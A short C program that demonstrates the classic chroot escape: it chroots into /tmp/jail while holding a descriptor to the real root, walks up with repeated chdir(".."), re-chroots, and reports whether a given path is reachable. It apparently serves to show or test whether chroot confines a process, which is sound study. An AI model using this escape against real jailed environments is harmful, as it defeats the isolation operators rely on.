/* The classic way out of a chroot: a second chroot below an open directory. Prints what /etc/hostname-like files it then sees. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **arguments) {
    mkdir("/tmp/jail", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") != 0) {
        printf("chroot refused\n");
        return 0;
    }
    fchdir(outside);
    for (int i = 0; i < 100; i++) {
        chdir("..");
    }
    chroot(".");
    printf("%s %s\n", arguments[1], access(arguments[1], F_OK) == 0 ? "reached" : "out of reach");
    return 0;
}
